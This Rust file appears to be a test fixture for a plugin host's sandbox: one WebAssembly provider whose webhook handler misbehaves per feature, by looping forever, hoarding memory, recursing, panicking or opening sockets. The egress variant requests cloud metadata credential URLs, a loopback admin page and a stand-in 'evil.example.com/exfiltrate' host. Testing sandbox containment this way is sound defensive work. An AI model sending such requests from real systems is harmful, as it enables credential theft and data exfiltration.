//! Adversarial provider components for the host's sandbox tests.
//!
//! One crate, one misbehaviour per cargo feature (see `tests/build.rs`): each export is
//! a well-formed `vcs:provider@0.1.0` provider except `webhooks.handle-delivery`, which
//! does the bad thing the feature names. Without a feature it behaves (answers
//! a probe of the host's imports (see the featureless `behave`), and a second, minimal provider.
#![allow(clippy::all)]

mod bindings {
    wit_bindgen::generate!({
        world: "vcs-provider",
        path: "../../../wit/since_v0.1.0",
    });
}

use bindings::exports::vcs::provider::{auth, commands, comments, webhooks};
use bindings::vcs::provider::types::{
    CommandSettings, Connection, IntegrationSettings, ProviderError, PullRequestRef, WebhookAuth,
    Workspace,
};

struct Hostile;

fn unsupported<T>() -> Result<T, ProviderError> {
    Err(ProviderError::Unsupported(
        "the hostile test provider implements only handle-delivery".into(),
    ))
}

#[cfg(feature = "loop-forever")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

#[cfg(feature = "grow-memory")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        chunk[0] = hoard.len() as u8;
        hoard.push(std::hint::black_box(chunk));
    }
}

#[cfg(feature = "deep-recursion")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    // Scalars only: every frame lives on the wasm stack (bounded by the host), not on
    // Rust's shadow stack in linear memory.
    #[allow(unconditional_recursion)]
    #[inline(never)]
    fn descend(depth: u64) -> u64 {
        let next = std::hint::black_box(depth.wrapping_add(1));
        descend(next).wrapping_mul(3).wrapping_add(depth)
    }
    let total = descend(0);
    Err(ProviderError::Upstream(
        bindings::vcs::provider::types::UpstreamError {
            status: None,
            message: format!("unreachable {total}"),
        },
    ))
}

#[cfg(feature = "panic")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    let body: Option<&str> = std::hint::black_box(None);
    panic!(
        "hostile provider panicked on purpose: {}",
        body.unwrap_or("no body")
    );
}

/// Tries to reach the cloud metadata service and a loopback port through the host's
/// HTTP import, and reports what the host said for each.
#[cfg(feature = "egress")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    use bindings::vcs::provider::http;
    let mut answers = Vec::new();
    for url in [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "https://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://localhost:8080/admin",
        "https://evil.example.com/exfiltrate",
    ] {
        let request = http::Request {
            method: http::Method::Get,
            url: url.to_string(),
            headers: vec![("Metadata".into(), "true".into())],
            body: None,
            timeout_ms: Some(1000),
        };
        answers.push(match http::send(&request) {
            Ok(response) => format!("{url} -> answered {}", response.status),
            Err(http::HttpError::Denied(m)) => format!("{url} -> denied: {m}"),
            Err(other) => format!("{url} -> error: {other:?}"),
        });
    }
    Err(ProviderError::Transport(answers.join("\n")))
}

/// Opens a TCP socket with std, which makes the component import `wasi:sockets`.
#[cfg(feature = "sockets")]
fn behave(_delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    match std::net::TcpStream::connect("169.254.169.254:80") {
        Ok(_) => Err(ProviderError::Transport("connected".into())),
        Err(e) => Err(ProviderError::Transport(format!("socket error: {e}"))),
    }
}

/// The well-behaved probe: exercises every import so the tests can check the host's
/// wiring through a real component. The delivery body is a key: the first delivery of a
/// key is `ignored`, a repeat is `duplicate` (storage compare-and-swap, namespaced by the
/// host). A header `x-probe-url` makes it GET that URL through the host and report the
/// status in the `ignored` reason.
#[cfg(not(any(
    feature = "loop-forever",
    feature = "grow-memory",
    feature = "deep-recursion",
    feature = "panic",
    feature = "egress",
    feature = "sockets"
)))]
fn behave(delivery: &webhooks::Delivery) -> Result<webhooks::HandledDelivery, ProviderError> {
    use bindings::vcs::provider::{http, log, storage};
    let key = String::from_utf8_lossy(&delivery.body).to_string();
    log::emit(
        log::Level::Info,
        "probe delivery",
        &[("key".into(), key.clone())],
    );
    let first = storage::compare_and_swap(&format!("seen:{key}"), None, Some(b"1"), Some(3600))
        .map_err(|e| ProviderError::Storage(format!("{e:?}")))?;
    if !first {
        return Ok(webhooks::HandledDelivery {
            delivery_id: Some(key),
            outcome: webhooks::Outcome::Duplicate,
        });
    }
    let mut reason = format!("probe saw {key} for the first time");
    if let Some((_, url)) = delivery
        .headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case("x-probe-url"))
    {
        let request = http::Request {
            method: http::Method::Get,
            url: url.clone(),
            headers: vec![("Authorization".into(), "Basic OnByb2JlLXNlY3JldA==".into())],
            body: None,
            timeout_ms: Some(5000),
        };
        match http::send(&request) {
            Ok(response) => reason.push_str(&format!(
                "; GET {url} answered {} with {} bytes",
                response.status,
                response.body.len()
            )),
            Err(e) => reason.push_str(&format!("; GET {url} failed: {e:?}")),
        }
    }
    Ok(webhooks::HandledDelivery {
        delivery_id: Some(key),
        outcome: webhooks::Outcome::Ignored(reason),
    })
}

impl webhooks::Guest for Hostile {
    fn handle_delivery(
        _settings: IntegrationSettings,
        _conn: Option<Connection>,
        delivery: webhooks::Delivery,
    ) -> Result<webhooks::HandledDelivery, ProviderError> {
        behave(&delivery)
    }
    fn changed_files(
        _conn: Connection,
        _source: webhooks::ChangeSource,
        _cursor: Option<String>,
    ) -> Result<webhooks::ChangedFilesPage, ProviderError> {
        unsupported()
    }
}

impl auth::Guest for Hostile {
    fn authorization_url(
        _app: auth::OauthApp,
    ) -> Result<auth::AuthorizationRequest, ProviderError> {
        unsupported()
    }
    fn exchange_code(
        _app: auth::OauthApp,
        _code: String,
        _state: String,
    ) -> Result<auth::TokenSet, ProviderError> {
        unsupported()
    }
    fn refresh_token(
        _app: auth::OauthApp,
        _refresh_token: String,
    ) -> Result<auth::TokenSet, ProviderError> {
        unsupported()
    }
    fn validate(
        _conn: Connection,
        _required: Vec<auth::Capability>,
    ) -> Result<auth::ValidationReport, ProviderError> {
        unsupported()
    }
    fn verify_webhook(
        _expected: WebhookAuth,
        _headers: Vec<(String, String)>,
        _body: Vec<u8>,
    ) -> Result<(), ProviderError> {
        Ok(())
    }
}

impl comments::Guest for Hostile {
    fn limits() -> comments::CommentLimits {
        comments::CommentLimits {
            max_length: 1000,
            unit: comments::LengthUnit::Utf8Bytes,
        }
    }
    fn render(
        _report: comments::RunReport,
        _options: comments::RenderOptions,
    ) -> Result<Vec<String>, ProviderError> {
        unsupported()
    }
    fn publish(
        _conn: Connection,
        _target: PullRequestRef,
        _report: comments::RunReport,
        _options: comments::PublishOptions,
    ) -> Result<comments::PublishResult, ProviderError> {
        unsupported()
    }
    fn set_status(
        _conn: Connection,
        _target: comments::StatusTarget,
        _status: comments::CommitStatus,
    ) -> Result<(), ProviderError> {
        unsupported()
    }
    fn reply(
        _conn: Connection,
        _target: PullRequestRef,
        _thread_id: Option<String>,
        _markdown: String,
    ) -> Result<comments::PostedComment, ProviderError> {
        unsupported()
    }
}

impl commands::Guest for Hostile {
    fn parse(_body: String, _prefix: String) -> Result<commands::ParsedCommand, ProviderError> {
        Ok(commands::ParsedCommand::None)
    }
    fn authorize(
        _settings: CommandSettings,
        _workspaces: Vec<Workspace>,
        _conn: Option<Connection>,
        _request: commands::CommandRequest,
    ) -> Result<webhooks::CommandVerdict, ProviderError> {
        unsupported()
    }
}

bindings::export!(Hostile with_types_in bindings);
